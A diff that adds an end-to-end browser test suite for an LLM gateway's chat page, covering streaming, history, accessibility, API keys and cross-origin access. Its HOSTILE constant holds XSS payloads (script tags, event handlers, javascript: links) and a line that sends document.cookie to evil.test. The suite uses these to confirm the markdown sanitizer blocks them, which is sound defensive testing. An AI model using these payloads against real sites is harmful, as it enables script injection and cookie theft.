@@ -1,0 +1,580 @@
+"""The chat page at a gateway as it is run: a process, a real Postgres, an upstream of ours, and a browser."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import sys
+import uuid
+from contextlib import asynccontextmanager, suppress
+from typing import TYPE_CHECKING, Any, Self
+
+import pytest
+import pytest_asyncio
+from aiohttp import web
+from aiohttp.test_utils import TestServer
+
+from tests.gateway_process import GatewayProcess
+from tests.journeys.stage import Stage, open_stage
+from tests.loopback import LoopbackUpstream, WaitFor, chat_stream
+from tests.page.looking import faults_of_axe, until, watched
+from tests.page.serving import STATIC
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator
+    from pathlib import Path
+
+    from playwright.async_api import Browser, CDPSession, Page
+
+    from tests.loopback import Request, Script
+    from tests.postgres import PostgresServer
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+HOSTILE = """\
+# <script>document.title='owned'</script>
+
+<img src=x onerror="document.title='owned'"> <svg onload="document.title='owned'"></svg>
+<iframe src="https://evil.test/"></iframe><style>body{display:none}</style><base href="https://evil.test/">
+<form action="https://evil.test/"><button>Give</button></form><meta http-equiv="refresh" content="0;url=https://evil.test/">
+
+[link](javascript:document.title='owned') [data](data:text/html,<script>1</script>) <javascript:alert(1)>
+[ref]: javascript:alert(1)
+[ref] ![pixel](https://evil.test/p.png?secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![x](x" onerror="alert(1))
+[good](https://example.test/ok "title\\" onmouseover=\\"alert(1)")
+
+| a | <img src=y onerror=alert(1)> |
+|---|---|
+| `</code><script>alert(1)</script>` | <a href="javascript:alert(1)">x</a> |
+
+```html" onmouseover="alert(1)
+</code></pre><script>document.title='owned'</script>
+```
+
+```javascript
+fetch("https://evil.test/?" + document.cookie) // </script><script>alert(1)</script>
+```
+
+- [x] <input autofocus onfocus=alert(1)>
+<details open ontoggle=alert(1)><summary>x</summary></details>
+&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)
+"""
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def stage(tmp_path_factory: pytest.TempPathFactory, postgres: PostgresServer) -> AsyncIterator[Stage]:
+    dsn = postgres.create_database()
+    async with LoopbackUpstream() as upstream:
+        folder = tmp_path_factory.mktemp("page")
+        env = {"GATEWAY_POLICY_URL": "https://intranet.example/policy"}
+        async for stage in open_stage(GatewayProcess.upon(folder, upstream.url, dsn, **env), upstream, dsn):
+            yield stage
+    postgres.drop_database(dsn)
+
+
+def held(text: str, go_on: asyncio.Event, pieces: int = 3) -> Script:
+    """An answer that waits after its first pieces."""
+    whole = chat_stream(text)
+    begun = whole.first(pieces)
+    return type(whole)([*begun.steps, WaitFor(go_on), *whole.steps[len(begun.steps) :]])
+
+
+@asynccontextmanager
+async def chatting(browser: Browser, stage: Stage, **options: Any) -> AsyncIterator[Page]:
+    stage.upstream.forget()
+    async with watched(browser, f"{stage.gateway.url}/", **options) as page:
+        await page.wait_for_selector(".starters")
+        yield page
+
+
+async def write(page: Page, text: str) -> None:
+    await page.locator("#composer-text").fill(text)
+    await page.keyboard.press("Enter")
+
+
+async def answered(page: Page, count: int = 1) -> str:
+    await until(page, f"document.querySelectorAll('.assistant.complete').length >= {count}")
+    return await page.locator(".assistant.complete .said").last.inner_text()
+
+
+def asked(stage: Stage) -> list[Request]:
+    """The chats that reached the model's side."""
+    return [request for request in stage.upstream.requests if request.method == "POST"]
+
+
+def word() -> str:
+    """One that no other test says."""
+    return f"w{uuid.uuid4().hex[:10]}"
+
+
+async def test_an_answer_streams_is_counted_and_stands_in_the_history(browser: Browser, stage: Stage) -> None:
+    go_on, question = asyncio.Event(), word()
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(held("One two three four.", go_on))
+        await write(page, question)
+        await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+        assert await page.locator(".assistant.streaming").count() == 1
+        go_on.set()
+        assert await answered(page) == "One two three four."
+        meta = await page.locator(".assistant .meta").inner_text()
+        assert "7 tokens in" in meta
+        assert "first word after" in meta
+        assert "4 words" in await page.locator("[role=status]").inner_text()
+        await page.locator(f".past .open:text-is('{question}')").wait_for()
+        rows = await stage.fetch("select * from llm_logs.chatgpt_logs where request::text like $1", f"%{question}%")
+        assert len(rows) == 1
+
+
+async def test_stop_ends_the_answer_at_the_gateway_too(browser: Browser, stage: Stage) -> None:
+    for way in ("button", "escape"):
+        async with chatting(browser, stage) as page:
+            question = word()
+            stage.upstream.script(held("One two three four.", asyncio.Event()))
+            await write(page, question)
+            await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+            if way == "button":
+                await page.get_by_role("button", name="Stop").click()
+            else:
+                await page.keyboard.press("Escape")
+            await page.wait_for_selector(".assistant.stopped")
+            [request] = asked(stage)
+            await stage.upstream.wait_closed(request)
+            async with asyncio.timeout(10):
+                query = "select outcome from llm_logs.chatgpt_logs where request::text like $1"
+                while not (rows := await stage.fetch(query, f"%{question}%")):
+                    await asyncio.sleep(0.05)
+            assert [row["outcome"] for row in rows] == ["client_cancelled"]
+
+
+async def test_a_reload_in_mid_answer_finds_it_again_live(browser: Browser, stage: Stage) -> None:
+    go_on = asyncio.Event()
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(held("One two three four.", go_on))
+        await write(page, "go")
+        await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+        await page.reload()
+        await until(page, "document.querySelector('.assistant.streaming .said')?.textContent.includes('One')")
+        go_on.set()
+        assert await answered(page) == "One two three four."
+        assert await page.locator(".user .said").inner_text() == "go"
+    assert len(asked(stage)) == 1
+
+
+async def test_an_answer_that_ended_while_the_page_was_away_is_there_when_it_is_back(
+    browser: Browser, stage: Stage
+) -> None:
+    go_on = asyncio.Event()
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(held("One two three four.", go_on))
+        await write(page, "go")
+        await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+        url = page.url
+        await page.goto("about:blank")
+        go_on.set()
+        await asyncio.sleep(0.3)
+        await page.goto(url)
+        assert await answered(page) == "One two three four."
+
+
+class Wire:
+    """A way to the gateway that can be cut."""
+
+    def __init__(self, port: int) -> None:
+        self._port = port
+        self._ends: set[asyncio.StreamWriter] = set()
+        self._server: asyncio.Server | None = None
+        self.url = ""
+
+    async def __aenter__(self) -> Self:
+        self._server = await asyncio.start_server(self._join, "127.0.0.1", 0)
+        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}/"
+        return self
+
+    async def __aexit__(self, *error: object) -> None:
+        assert self._server is not None
+        self._server.close()
+        self.cut()
+
+    def cut(self) -> None:
+        for end in self._ends:
+            end.transport.abort()
+
+    async def _join(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", self._port)
+        self._ends |= {writer, far_writer}
+        await asyncio.gather(_carry(reader, far_writer), _carry(far_reader, writer))
+
+
+async def _carry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    with suppress(ConnectionError):
+        while data := await reader.read(65536):
+            writer.write(data)
+            await writer.drain()
+    writer.close()
+
+
+async def test_a_cut_connection_is_mended(browser: Browser, stage: Stage) -> None:
+    go_on = asyncio.Event()
+    stage.upstream.forget()
+    async with Wire(stage.gateway.port) as wire, watched(browser, wire.url) as page:
+        await page.wait_for_selector(".starters")
+        stage.upstream.script(held("One two three four.", go_on))
+        await write(page, "go")
+        await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+        wire.cut()
+        go_on.set()
+        assert await answered(page) == "One two three four."
+    assert len(asked(stage)) == 1
+
+
+async def test_what_is_left_in_mid_answer_goes_on_and_is_found_in_the_list(browser: Browser, stage: Stage) -> None:
+    go_on, question = asyncio.Event(), word()
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(held("One two three four.", go_on))
+        await write(page, question)
+        await until(page, "document.querySelector('.assistant .said')?.textContent.includes('One')")
+        await page.locator(".fresh-chat").click()
+        await page.wait_for_selector(".welcome h2")
+        await page.locator(f".past .open:has-text('{question}')").click()
+        go_on.set()
+        assert await answered(page) == "One two three four."
+
+
+async def test_the_history_is_searched_opened_renamed_and_hidden(browser: Browser, stage: Stage) -> None:
+    first, second = word(), word()
+    async with chatting(browser, stage) as page:
+        for question in (first, second):
+            await page.locator(".fresh-chat").click()
+            await write(page, question)
+            await answered(page)
+            await page.locator(f".past .open:text-is('{question}')").wait_for()
+        await page.locator("#search").fill(first)
+        await page.locator(f".past .open:text-is('{second}')").wait_for(state="detached")
+        await page.locator(f".past .open:text-is('{first}')").click()
+        await until(page, f"document.querySelector('.user .said')?.textContent === '{first}'")
+        await write(page, "And then?")
+        await answered(page, 2)
+        assert [m["role"] for m in json.loads(asked(stage)[-1].body)["messages"]] == [
+            "system",
+            "user",
+            "assistant",
+            "user",
+        ]
+        await page.locator("#search").fill("")
+        await page.locator(f".past li:has(.open:text-is('{first}'))").hover()
+        await page.get_by_role("button", name=f"Rename or hide “{first}”").click()
+        await page.locator("#conversation-name").fill("A better title")
+        await page.keyboard.press("Enter")
+        await page.locator(".past .open:text-is('A better title')").wait_for()
+        await page.reload()
+        await page.locator(f".past .open:text-is('{second}')").wait_for()
+        await page.locator(".past li:has(.open:text-is('A better title'))").hover()
+        await page.get_by_role("button", name="Rename or hide “A better title”").click()
+        await page.get_by_role("button", name="Let the model name it").click()
+        await until(page, "document.querySelector('#conversation-name').value.startsWith('You said')")
+        await page.get_by_role("button", name="Hide from history").click()
+        await page.get_by_text("Nothing is deleted").first.wait_for()
+        await page.reload()
+        await page.locator(f".past .open:text-is('{second}')").wait_for()
+        assert await page.locator(".past .open:has-text('You said')").count() == 0
+
+
+async def test_an_edited_question_begins_a_branch_of_the_same_conversation(browser: Browser, stage: Stage) -> None:
+    async with chatting(browser, stage) as page:
+        old, new = word(), word()
+        await write(page, old)
+        before = await answered(page)
+        await page.locator("#composer-text").press("ArrowUp")
+        await page.locator(".edit-text").fill(new)
+        await page.keyboard.press("Enter")
+        await until(page, f"document.querySelector('.assistant.complete .said')?.textContent.includes('{new}')")
+        assert await page.locator(".user .place").inner_text() == "2 / 2"
+        await page.locator(".user .pager").get_by_role("button", name="Previous version").click()
+        await until(page, f"document.querySelector('.user .said').textContent === '{old}'")
+        assert await page.locator(".assistant .said").inner_text() == before
+        async with asyncio.timeout(10):
+            query = "select root_gpt_id from llm_logs.chatgpt_logs where request::text like $1"
+            while not (rows := await stage.fetch(query, f"%{new}%")):
+                await asyncio.sleep(0.05)
+        assert rows == await stage.fetch(query, f"%{old}%")
+
+
+async def test_parameters_and_use_case_go_along_and_stay_over_a_reload(browser: Browser, stage: Stage) -> None:
+    async with chatting(browser, stage) as page:
+        await page.locator("#use-case").select_option(label="Coding assistant")
+        await page.get_by_role("button", name="Parameters").click()
+        assert "engineer" in await page.locator("#instructions").input_value()
+        for name in ("temperature", "top_p", "presence_penalty", "frequency_penalty", "max_tokens"):
+            help_text = await page.locator(f"#{name}-help").inner_text()
+            assert len(help_text) > 20
+            await page.locator(f"#{name}-number").fill("0.3" if name != "max_tokens" else "9")
+        assert await faults_of_axe(page) == []
+        await page.keyboard.press("Escape")
+        await page.reload()
+        await write(page, word())
+        await answered(page)
+    body = json.loads(asked(stage)[-1].body)
+    fields = ("temperature", "top_p", "presence_penalty", "frequency_penalty", "max_tokens")
+    assert [body[name] for name in fields] == [0.3, 0.3, 0.3, 0.3, 9]
+    assert "engineer" in body["messages"][0]["content"]
+    assert "root_id" not in body
+
+
+async def test_a_draft_survives_a_reload(browser: Browser, stage: Stage) -> None:
+    async with chatting(browser, stage) as page:
+        await page.locator("#composer-text").fill("half a thought")
+        await page.reload()
+        await until(page, "document.querySelector('#composer-text')?.value === 'half a thought'")
+
+
+async def test_hostile_markdown_runs_nothing_and_asks_nobody(browser: Browser, stage: Stage) -> None:
+    """`watched` checks the other hosts, the policy and the dialogs."""
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(chat_stream(list(HOSTILE)), chat_stream([HOSTILE]))
+        for count in (1, 2):
+            await write(page, HOSTILE)
+            await answered(page, count)
+        await asyncio.sleep(0.3)
+        assert await page.title() == "LLM gateway"
+        bad = "script, iframe, style, base, form:not(.edit), meta, svg:not(.icon), object, [onerror], [onload], [style]"
+        assert await page.locator(f".said :is({bad})").count() == 0
+        assert await page.locator(".said img").count() == 0
+        hrefs = await page.evaluate("[...document.querySelectorAll('.said a')].map(a => [a.href, a.rel, a.target])")
+        assert hrefs
+        for href, rel, target in hrefs:
+            assert href.startswith("https://")
+            assert "noopener" in rel
+            assert target == "_blank"
+        assert "onerror" in await page.locator(".assistant .said").last.inner_text()
+
+
+async def test_reasoning_is_folded_away(browser: Browser, stage: Stage) -> None:
+    async with chatting(browser, stage) as page:
+        stage.upstream.script(chat_stream("Yes.", reasoning="Let me think."))
+        await write(page, "hm?")
+        assert await answered(page) == "Yes."
+        thought = page.locator(".assistant .thought-text")
+        assert not await thought.is_visible()
+        await page.locator(".assistant .thought summary").click()
+        assert await thought.inner_text() == "Let me think."
+
+
+async def test_fifty_kilobytes_stay_smooth(browser: Browser, stage: Stage) -> None:
+    part = "## Part\n\nSome **bold** words with `code` in a line, and more of them.\n\n"
+    part += "- one\n- two\n\n```py\nx = 1\n```\n\n"
+    text = (part * 600)[:50_000]
+    async with chatting(browser, stage) as page:
+        pieces = [text[at : at + 20] for at in range(0, len(text), 20)]
+        stage.upstream.script(chat_stream(pieces, pace=0.001))
+        measure = await page.context.new_cdp_session(page)
+        await measure.send("Performance.enable", {"timeDomain": "threadTicks"})  # CPU: other processes do not count
+        began = await cpu_seconds(measure)
+        await write(page, "go")
+        await until(page, "document.querySelectorAll('.assistant .code').length > 20")
+        first = await page.evaluate_handle("document.querySelector('.assistant .said').firstElementChild")
+        await page.wait_for_selector(".assistant.complete", timeout=60_000)
+        assert await page.evaluate("first => first.isConnected", first)  # what was finished was left alone
+        took = await cpu_seconds(measure) - began
+        print(f"CPU of the page for 50 kB in 2,500 pieces: {took:.2f} s")
+        assert took < 6  # 15.5 s where each piece renders all of it again
+
+
+async def cpu_seconds(measure: CDPSession) -> float:
+    """What the page's main thread has worked so far."""
+    metrics = await measure.send("Performance.getMetrics")
+    return float(next(each["value"] for each in metrics["metrics"] if each["name"] == "TaskDuration"))
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+async def test_axe_finds_nothing_serious(browser: Browser, stage: Stage, width: int, scheme: str) -> None:
+    text = "# Title\n\nText with [a link](https://a.example), `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    text += "```py\ndef f(): # hm\n    return 'x', 1\n```\n\n- [x] done"
+    options: dict[str, Any] = {"viewport": {"width": width, "height": 800}, "color_scheme": scheme}
+    async with chatting(browser, stage, **options) as page:
+        assert await faults_of_axe(page) == []
+        stage.upstream.script(chat_stream(text, reasoning="hm"))
+        await write(page, "hello")
+        await answered(page)
+        await page.wait_for_selector(".hl-keyword")
+        assert await faults_of_axe(page) == []
+        if width < 900:
+            await page.get_by_role("button", name="Conversations").click()
+            await until(page, "document.activeElement.ariaLabel === 'Close'")
+            await asyncio.sleep(0.3)
+            assert await faults_of_axe(page) == []
+            await page.keyboard.press("Escape")
+            await until(page, "document.activeElement.ariaLabel === 'Conversations'")
+
+
+async def test_colours_can_be_chosen_and_stay(browser: Browser, stage: Stage) -> None:
+    ground = "getComputedStyle(document.body).backgroundColor"
+    async with chatting(browser, stage, color_scheme="light") as page:
+        assert await page.evaluate(ground) == "rgb(251, 250, 248)"
+        await page.get_by_role("button", name="Colours: as the system").click()
+        assert await page.evaluate(ground) == "rgb(25, 24, 22)"
+        await page.reload()
+        await until(page, f"{ground} === 'rgb(25, 24, 22)'")
+
+
+async def test_the_whole_page_works_by_keyboard(browser: Browser, stage: Stage) -> None:
+    question = word()
+    async with chatting(browser, stage) as page:
+        await page.keyboard.type(question)  # the message field has the focus from the start
+        await page.keyboard.press("Enter")
+        await answered(page)
+        await page.locator(f".past .open:text-is('{question}')").wait_for()
+        await page.keyboard.press("Control+Shift+O")
+        await page.wait_for_selector(".welcome h2")
+        await page.keyboard.press("Control+K")
+        await page.keyboard.type(question)
+        await page.locator(f".past .open:text-is('{question}')").wait_for()
+        for _ in range(8):
+            await page.keyboard.press("Tab")
+            if await page.evaluate("document.activeElement.textContent") == question:
+                break
+        await page.keyboard.press("Enter")
+        await until(page, f"document.querySelector('.user .said')?.textContent === '{question}'")
+
+
+# ── keys, and the page on a host of its own ──────────────────────────────────────────────────────────────────────────
+
+
+@asynccontextmanager
+async def static_host(config: dict[str, Any] | None = None) -> AsyncIterator[str]:
+    """The files of the page, as any static host has them; `config` is a page.json that somebody put beside them."""
+
+    async def index(request: web.Request) -> web.FileResponse:
+        return web.FileResponse(STATIC / "index.html")
+
+    async def page_json(request: web.Request) -> web.Response:
+        if config is None:
+            raise web.HTTPNotFound
+        return web.json_response(config)
+
+    app = web.Application()
+    app.router.add_get("/", index)
+    app.router.add_get("/page.json", page_json)
+    app.router.add_static("/static", STATIC)
+    async with TestServer(app) as server:
+        yield str(server.make_url("/"))
+
+
+async def new_key(folder: Path, dsn: str) -> str:
+    """Made as its operator would make it."""
+    made = await asyncio.create_subprocess_exec(
+        *(sys.executable, "-m", "gateway", "keys", "create", "--user", "ada", "--name", "page"),
+        env={**os.environ, "DATABASE_URL": dsn, "GATEWAY_DATA_DIR": str(folder / "data"), "GATEWAY_AUTH": "keys"},
+        stdout=asyncio.subprocess.PIPE,
+    )
+    said, _ = await made.communicate()
+    return next(part for part in said.decode().split() if part.startswith("sk-gw-"))
+
+
+@asynccontextmanager
+async def locked(tmp_path: Path, postgres: PostgresServer, **env: str) -> AsyncIterator[tuple[GatewayProcess, str]]:
+    """A gateway that knows its callers by keys, and one of its keys."""
+    dsn = postgres.create_database()
+    async with LoopbackUpstream() as upstream:
+        gateway = GatewayProcess.upon(tmp_path, upstream.url, dsn, GATEWAY_AUTH="keys", **env)
+        async with gateway:
+            key = await new_key(tmp_path, dsn)
+            yield gateway, key
+    postgres.drop_database(dsn)
+
+
+async def test_a_key_is_asked_for_and_stays_in_the_tab(
+    browser: Browser, tmp_path: Path, postgres: PostgresServer
+) -> None:
+    async with (
+        locked(tmp_path, postgres, GATEWAY_TOKEN_URL="https://tokens.example/new") as (gateway, key),
+        watched(browser, f"{gateway.url}/") as page,
+    ):
+        await page.locator("#sign-in[open]").wait_for()
+        link = page.get_by_role("link", name="Generate a token")
+        assert await link.get_attribute("href") == "https://tokens.example/new"
+        await page.locator("#token").fill("sk-gw-wrong")
+        await page.keyboard.press("Enter")
+        await page.get_by_text("was not accepted").wait_for()
+        await page.locator("#token").fill(key)
+        await page.keyboard.press("Enter")
+        await page.wait_for_selector(".starters")
+        await write(page, "hello")
+        await answered(page)
+        await page.reload()
+        await page.get_by_role("button", name="Signed in with a key").wait_for()
+        kept = await page.evaluate(
+            "[JSON.stringify({...localStorage}) + document.cookie, JSON.stringify({...sessionStorage})]"
+        )
+        assert key not in kept[0]
+        assert key in kept[1]
+        await page.get_by_role("button", name="Signed in with a key").click()
+        await page.get_by_role("button", name="Sign out").click()
+        await page.get_by_text("Sign in to see your conversations").wait_for()
+        assert key not in await page.evaluate("JSON.stringify({...sessionStorage})")
+
+
+async def test_the_page_alone_works_with_a_gateway_that_allows_its_origin(
+    browser: Browser, tmp_path: Path, postgres: PostgresServer
+) -> None:
+    async with static_host() as host:
+        origin = host.rstrip("/")
+        async with locked(tmp_path, postgres, GATEWAY_ALLOWED_ORIGINS=origin) as (gateway, key):
+            netloc = gateway.url.removeprefix("http://")
+            async with watched(browser, f"{host}?gateway={gateway.url}", hosts=frozenset({netloc})) as page:
+                await page.locator("#sign-in[open]").wait_for()
+                assert await page.locator("#address").input_value() == gateway.url
+                await page.locator("#token").fill(key)
+                await page.keyboard.press("Enter")
+                await page.wait_for_selector(".starters")
+                question = word()
+                await write(page, question)
+                await answered(page)
+                await page.locator(f".past .open:text-is('{question}')").wait_for()
+                await write(page, "And more")
+                await answered(page, 2)  # the ids came over: it is one conversation
+                assert await page.locator(".past .open").count() == 1
+
+
+async def test_the_page_alone_speaks_to_an_openai_compatible_url(browser: Browser) -> None:
+    async def models(request: web.Request) -> web.Response:
+        return web.json_response({"data": [{"id": "local-model"}]}, headers=cors)
+
+    async def chat(request: web.Request) -> web.Response:
+        seen.append((request.headers.get("Authorization"), await request.json()))
+        return web.Response(body=chat_stream("Hello there.").payload, content_type="text/event-stream", headers=cors)
+
+    async def preflight(request: web.Request) -> web.Response:
+        return web.Response(headers={**cors, "Access-Control-Allow-Headers": "authorization, content-type"})
+
+    cors = {"Access-Control-Allow-Origin": "*"}
+    seen: list[tuple[str | None, dict[str, Any]]] = []
+    app = web.Application()
+    app.router.add_get("/v1/models", models)
+    app.router.add_post("/v1/chat/completions", chat)
+    app.router.add_route("OPTIONS", "/v1/{path:.*}", preflight)
+    async with TestServer(app) as server, static_host() as host:
+        base = str(server.make_url("/v1"))
+        netloc = base.removeprefix("http://").removesuffix("/v1")
+        async with watched(browser, host, hosts=frozenset({netloc})) as page:
+            await page.locator("#sign-in[open]").wait_for()
+            await page.locator("#address").fill(base)
+            await page.locator("#token").fill("sk-local")
+            await page.keyboard.press("Enter")
+            await page.wait_for_selector(".starters")
+            await write(page, "hello")
+            assert await answered(page) == "Hello there."
+            assert not await page.locator("#search").is_visible()
+    [(authorization, body)] = seen
+    assert authorization == "Bearer sk-local"
+    assert body["model"] == "local-model"
+
+
+async def test_another_origin_is_refused_unless_it_is_named(browser: Browser, stage: Stage) -> None:
+    async with static_host() as host:
+        netloc = stage.gateway.url.removeprefix("http://")
+        async with watched(browser, f"{host}?gateway={stage.gateway.url}", hosts=frozenset({netloc})) as page:
+            await page.get_by_text("The gateway cannot be reached.").first.wait_for()
+    origin = {"Origin": host.rstrip("/")}
+    assert "Access-Control-Allow-Origin" not in (await stage.ask("/page.json", method="GET", headers=origin)).headers
